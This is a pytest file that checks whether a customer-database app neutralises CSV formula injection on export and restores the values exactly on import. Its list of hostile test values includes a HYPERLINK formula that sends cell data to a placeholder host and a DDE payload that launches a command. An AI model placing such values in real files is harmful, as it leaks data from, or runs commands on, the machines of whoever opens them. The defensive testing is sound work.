"""Formula-safe CSV (OWASP CSV injection): what the app writes never runs as a spreadsheet formula,
and what it wrote imports back exactly."""

from __future__ import annotations

import csv

import pytest

from loyaldesk.core.io import csv_cells, export
from tests.conftest import add_client

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1)", "=1+1",
           "-2+3", "\tTAB", "\rCR", "'=already quoted", "''@twice"]
HARMLESS = ["Bob", "'quoted but harmless", "a=b", "山田 太郎", ""]


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_protect_then_unprotect_is_exact(value):
    written = csv_cells.protect(value)
    assert csv_cells.unprotect(written) == value
    if value in HOSTILE:
        assert written.startswith("'") and written[1:] == value
    else:
        assert written == value


def test_clients_csv_holds_no_formula_and_imports_back_exactly(db, tmp_path):
    from loyaldesk.core.db import open_database
    from loyaldesk.core.io import files, importer

    for i, value in enumerate(HOSTILE):
        add_client(db, f"Client {i}", notes=value, company=value)
    out = tmp_path / "clients.csv"
    export.export_csv(db, out, "clients")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell  # nothing a spreadsheet would run
    fresh = open_database(tmp_path / "fresh.db")
    try:
        loaded = files.load_table(fresh, out, "clients")
        plan = importer.plan_client_import(fresh, files.client_records(loaded))
        importer.apply_client_import(fresh, plan, on_error="abort")
        back = {name: (company, notes) for name, company, notes in
                fresh.query("SELECT name, company, notes FROM clients", plain=True)}
        for i, value in enumerate(HOSTILE):
            if value.strip() == value:  # (a value that starts with a tab or CR is trimmed like any cell)
                assert back[f"Client {i}"] == (value, value)
    finally:
        fresh.close()
